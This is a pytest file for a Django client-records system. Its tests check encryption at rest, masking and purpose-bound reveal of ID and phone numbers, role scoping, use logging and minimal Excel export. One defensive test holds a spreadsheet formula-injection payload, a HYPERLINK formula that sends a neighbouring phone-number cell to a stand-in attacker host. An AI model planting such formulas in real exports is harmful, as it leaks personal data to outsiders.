"""The client pages under the security core: encryption at rest proven through the UI (STO-3),
masking and purpose-bound reveal (SEC-4), minimum-field export (SEC-9), use logging (PRV-2)."""

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from anxin.audit.models import Alert, UseLog
from anxin.clients.models import Client, ServiceRecord
from anxin.crypto.testing import assert_not_in_database_bytes, find_in_database_bytes

ID_NUMBER = "110101199003071233"
ALLERGY = "青霉素过敏，对薰衣草精油起疹"
PHONE = "13812345678"


def register(client_http, **extra):
    data = {
        "name": "李四",
        "gender": "F",
        "birth_date": "1990-03-07",
        "occupation": "教师",
        "phone": PHONE,
        "id_number": ID_NUMBER,
        "address": "北京市朝阳区建国路88号",
        "medical_history": "",
        "allergies": ALLERGY,
        "conditions": "",
        "source": "walk_in",
        "notice_version": "2024-1",
        "general_consent": "on",
        "health_consent": "on",
        "channel": "in_store",
        "confirmation": "screen",
        "signature_name": "李四",
        **extra,
    }
    return client_http.post("/clients/new/", data)


@pytest.mark.django_db(transaction=True)
@pytest.mark.req("STO-3")
def test_id_number_and_allergy_written_through_the_ui_are_not_in_the_database_file(
    client, login, front_desk, store
):
    from anxin.accounts.models import Role

    assert Role.objects.exists()
    login(client, front_desk)
    response = register(client)
    assert response.status_code == 302, response.content.decode()[:500]
    stored = Client.objects.get()
    assert stored.id_number == ID_NUMBER and stored.health.allergies == ALLERGY
    assert_not_in_database_bytes(ID_NUMBER, ALLERGY, PHONE)
    # the scanner does find what is stored in clear (so the absence above means something)
    assert find_in_database_bytes(stored.code)


@pytest.mark.django_db
@pytest.mark.req("SEC-4", "PRV-2")
def test_detail_is_masked_and_logged(client, login, front_desk, store):
    login(client, front_desk)
    register(client)
    code = Client.objects.get().code
    body = client.get(f"/clients/{code}/").content.decode()
    assert "138****5678" in body and "110***********1233" in body
    assert PHONE not in body and ID_NUMBER not in body
    assert ALLERGY not in body  # the front desk does not see the health file
    assert UseLog.objects.filter(user=front_desk, action="view", record_code=code).exists()


@pytest.mark.django_db
@pytest.mark.req("SEC-4", "PRV-2", "SEC-7")
def test_reveal_needs_permission_purpose_and_second_factor_and_hides_again(
    client, login, front_desk, manager, store
):
    login(client, front_desk)
    register(client)
    code = Client.objects.get().code
    # the front desk may not reveal
    refused = client.post(f"/clients/{code}/reveal/", {"field": "id_number", "purpose": "booking"})
    assert refused.status_code == 403 and ID_NUMBER not in refused.content.decode()
    client.logout()
    # the manager may, once the second factor is passed in this session
    client.force_login(manager)
    assert (
        client.post(
            f"/clients/{code}/reveal/", {"field": "id_number", "purpose": "booking"}
        ).status_code
        == 302
    )
    client.logout()
    login(client, manager)
    no_purpose = client.post(f"/clients/{code}/reveal/", {"field": "id_number", "purpose": "other"})
    assert no_purpose.status_code == 400 and ID_NUMBER not in no_purpose.content.decode()
    shown = client.post(
        f"/clients/{code}/reveal/", {"field": "id_number", "purpose": "other", "detail": "开具发票"}
    )
    assert ID_NUMBER in shown.content.decode()
    entry = UseLog.objects.get(user=manager, action="reveal")
    assert "开具发票" in entry.purpose and entry.record_code == code and entry.outcome == "allowed"
    assert ID_NUMBER not in entry.purpose
    again = client.get(f"/clients/{code}/").content.decode()
    assert ID_NUMBER not in again and "110***********1233" in again  # hidden again


@pytest.mark.django_db
@pytest.mark.req("SEC-3", "PRV-2")
def test_out_of_scope_is_404_and_logged_as_denied(client, login, front_desk, other_manager, store):
    login(client, front_desk)
    register(client)
    code = Client.objects.get().code
    client.logout()
    login(client, other_manager)
    assert client.get(f"/clients/{code}/").status_code == 404
    assert client.get(f"/clients/{code}/", {"x": 1}).status_code == 404
    assert client.get("/clients/KH99129999/").status_code == 404
    denied = UseLog.objects.filter(user=other_manager, outcome="denied")
    assert denied.filter(record_id=code).count() == 2


@pytest.mark.django_db
@pytest.mark.req("SEC-3")
def test_practitioner_sees_own_clients_health_but_no_contact_or_id(
    client, login, front_desk, practitioner, practitioner_b, store
):
    login(client, front_desk)
    register(client)
    c = Client.objects.get()
    ServiceRecord.objects.create(
        store=store,
        client=c,
        practitioner=practitioner,
        item_name="足疗",
        amount=Decimal("98.00"),
        served_at=timezone.now() - dt.timedelta(days=1),
    )
    client.logout()
    login(client, practitioner)
    body = client.get(f"/clients/{c.code}/").content.decode()
    assert ALLERGY in body
    assert "138****" not in body and "110***" not in body and "98.00" not in body
    assert c.code in client.get("/clients/").content.decode()
    client.logout()
    login(client, practitioner_b)
    assert client.get(f"/clients/{c.code}/").status_code == 404
    assert c.code not in client.get("/clients/").content.decode()


@pytest.mark.django_db
@pytest.mark.req("SEC-9", "PRV-2", "AUD-3")
def test_export_is_separate_minimal_logged_and_flagged(
    client, login, front_desk, manager, store, django_capture_on_commit_callbacks
):
    login(client, front_desk)
    register(client)
    assert client.get("/clients/export/").status_code == 403
    client.logout()
    login(client, manager)
    bad = client.post("/clients/export/", {"fields": ["id_number"], "purpose": "x"})
    assert bad.status_code == 400  # the ID number is never exportable
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(
            "/clients/export/", {"fields": ["code", "name"], "purpose": "会员回访名单"}
        )
    assert response.status_code == 200
    rows = list(load_workbook(BytesIO(response.content)).active.values)
    assert len(rows) == 2 and len(rows[0]) == 2 and rows[1][1] == "李四"
    assert PHONE.encode() not in response.content
    entry = UseLog.objects.get(action="export", outcome="allowed")
    assert entry.user == manager and entry.count == 1 and "会员回访名单" in entry.purpose
    assert callbacks, "the export schedules its alert"
    assert Alert.objects.filter(rule="export", user=manager).exists(), list(Alert.objects.values())


@pytest.mark.django_db
@pytest.mark.req("SEC-9")
def test_an_export_holds_a_formula_typed_as_occupation_as_inert_text(
    client, login, front_desk, manager
):
    """A hostile occupation must not run next to the phone numbers when the file is opened."""
    hostile = '=HYPERLINK("http://evil.example/?"&F2,"点此")'
    login(client, front_desk)
    register(client, occupation=hostile)
    client.logout()
    login(client, manager)
    response = client.post(
        "/clients/export/", {"fields": ["code", "occupation", "phone"], "purpose": "回访"}
    )
    assert response.status_code == 200
    cell = load_workbook(BytesIO(response.content)).active["B2"]
    assert cell.data_type == "s" and cell.value == "'" + hostile


@pytest.mark.django_db
@pytest.mark.req("PLT-4", "STO-3")
@pytest.mark.parametrize(
    "bad",
    [
        {"name": ""},
        {"name": "名" * 41},
        {"birth_date": "not a date"},
        {"phone": "1" * 31},
        {"id_number": "1" * 19},
        {"gender": "X"},
    ],
)
def test_bad_registration_changes_nothing_and_burns_no_code(client, login, front_desk, bad):
    login(client, front_desk)
    response = register(client, **bad)
    assert response.status_code == 400
    assert not Client.objects.exists()
    register(client)
    assert Client.objects.get().code.endswith("0001")


@pytest.mark.django_db
@pytest.mark.req("COD-KH", "COD-4")
def test_a_client_is_found_by_its_code_only_within_scope(client, login, front_desk, other_manager):
    login(client, front_desk)
    register(client)
    code = Client.objects.get().code
    assert client.get("/search/", {"q": code.lower()})["Location"] == f"/clients/{code}/"
    client.logout()
    login(client, other_manager)
    assert client.get("/search/", {"q": code}).status_code == 404
    assert UseLog.objects.filter(user=other_manager, record_code=code, outcome="denied").exists()
